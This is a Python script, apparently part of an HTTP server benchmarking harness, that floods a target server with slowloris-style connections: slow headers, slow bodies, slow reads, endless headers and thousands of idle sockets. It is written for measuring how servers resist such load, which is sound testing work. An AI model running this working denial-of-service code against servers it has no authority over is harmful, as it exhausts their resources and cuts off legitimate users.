# SPDX-License-Identifier: BSD-3-Clause
"""Bad clients of an HTTP server, all in one process: slow heads, slow bodies, slow reading, endless heads, and idle
connections. Each has its turns at its own times; if the server has closed its connection, it reconnects in its next
turn. Prints "ready" when all have connected once, and ends when its stdin ends.

After "ready" it runs only when no other program wants the processor (SCHED_IDLE, sched(7)). Real attackers would have
their own machines, so what other clients feel must come from the attacked server.

python3 -m versus.attackers HOST:PORT [--idle 10000]
"""

import argparse
import os
import select
import socket
import sys

from versus.run import process

EACH = 100  # connections of each kind except the idle ones
TICK_S = 0.001
ENDLESS = b"X-Filler: " + b"a" * 500 + b"\r\n"
GET = b"GET / HTTP/1.1\r\nHost: victim\r\n"
TINY_WINDOW = 4096


class Attacker:
    """One connection with its behaviour: what it sends first and in every turn. It has a turn every `period` ticks."""

    def __init__(self, address: tuple[str, int], first: bytes, then: bytes, period: int, reads: bool = True):
        self.period = period
        self._address = address
        self._first, self._then, self._reads = first, then, reads
        self._socket: socket.socket | None = None

    def open(self) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            if not self._reads:
                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, TINY_WINDOW)
            self._socket.connect(self._address)
            self._socket.setblocking(False)
            self._say(self._first)
        except OSError:
            self.close()

    def close(self) -> None:
        if self._socket:
            self._socket.close()
        self._socket = None

    def shutdown(self) -> None:
        """Ends the sending direction."""
        self._socket.shutdown(socket.SHUT_WR)

    @property
    def is_open(self) -> bool:
        return self._socket is not None

    def turn(self) -> None:
        """Sends the next bytes, or reconnects. Notices if the server has closed the connection."""
        if not self._socket:
            return self.open()
        self._say(self._then)
        if self._socket and self._reads and not self._drain():
            self.close()

    def _drain(self) -> bool:
        """Reads. Returns False if the server has closed."""
        try:
            return bool(self._socket.recv(65536))
        except BlockingIOError:
            return True
        except OSError:
            return False

    def _say(self, words: bytes) -> None:
        try:
            if words:
                self._socket.send(words)
        except BlockingIOError:
            pass
        except OSError:
            self.close()


def attackers(address: tuple[str, int], idle: int) -> list[Attacker]:
    upload = b"POST / HTTP/1.1\r\nHost: victim\r\nContent-Length: 1000000\r\n\r\n"
    many = (GET + b"\r\n") * 200
    kinds = [
        lambda: Attacker(address, GET, b"X", 1000),
        lambda: Attacker(address, upload, b"X", 1000),
        lambda: Attacker(address, many, many, 100, reads=False),
        lambda: Attacker(address, GET, ENDLESS * 20, 100),
    ]
    return [kind() for kind in kinds for _ in range(EACH)] + [Attacker(address, GET + b"\r\n", b"", 5000)
                                                              for _ in range(idle)]


def by_period(everybody: list[Attacker]) -> dict[int, list[Attacker]]:
    groups: dict[int, list[Attacker]] = {}
    for one in everybody:
        groups.setdefault(one.period, []).append(one)
    return groups


def whose_turn(groups: dict[int, list[Attacker]], tick: int) -> list[Attacker]:
    """Returns the attackers that have their turn in this tick. Each group's turns are spread evenly over its period."""
    return [one for period, group in groups.items() for one in group[tick % period::period]]


def main() -> int:
    parser = argparse.ArgumentParser(description="Attacks an HTTP server until its stdin ends.")
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("--idle", type=int, default=10_000, help="connections that ask once and stay open (10000)")
    options = parser.parse_args()
    host, _, port = options.target.rpartition(":")
    process.raise_fd_limit()
    everybody = attackers((host, int(port)), options.idle)
    for one in everybody:
        one.open()
    groups = by_period(everybody)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print("ready", flush=True)
    tick = 0
    while not select.select([sys.stdin], [], [], TICK_S)[0]:
        for one in whose_turn(groups, tick):
            one.turn()
        tick += 1
    for one in everybody:
        one.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
